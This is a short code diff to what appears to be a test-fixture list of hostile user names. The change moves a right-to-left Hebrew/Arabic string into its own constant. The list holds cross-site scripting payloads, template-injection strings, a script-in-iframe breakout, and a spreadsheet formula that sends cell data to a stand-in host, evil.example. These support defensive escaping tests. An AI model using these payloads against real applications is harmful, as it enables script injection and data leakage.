@@ -1,3 +1,5 @@
+export const RIGHT_TO_LEFT = 'שלום עליכם: رمز النشر للخادم (القديم) 123 — nightly'
+
 /** What somebody could type to have it run, to turn the page around, or to burst it: 200 characters at most, as a name may have. */
 export const HOSTILE_NAMES: readonly string[] = [
   `<img src=x onerror="window.pwned=1">`,
@@ -6,7 +8,7 @@ export const HOSTILE_NAMES: readonly string[] = [
   `'-window.pwned=1-' \${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}`,
   `</title></textarea><iframe srcdoc="<script>parent.pwned=1</script>">`,
   `=HYPERLINK("https://evil.example/?"&A1,"open") +1 @SUM(1) -1`,
-  'שלום עליכם: رمز النشر للخادم (القديم) 123 — nightly',
+  RIGHT_TO_LEFT,
   'W'.repeat(200),
   '﷽'.repeat(200),
   `${'Z̶̢̛̺͓̈́͛'.repeat(20)} zalgo`,
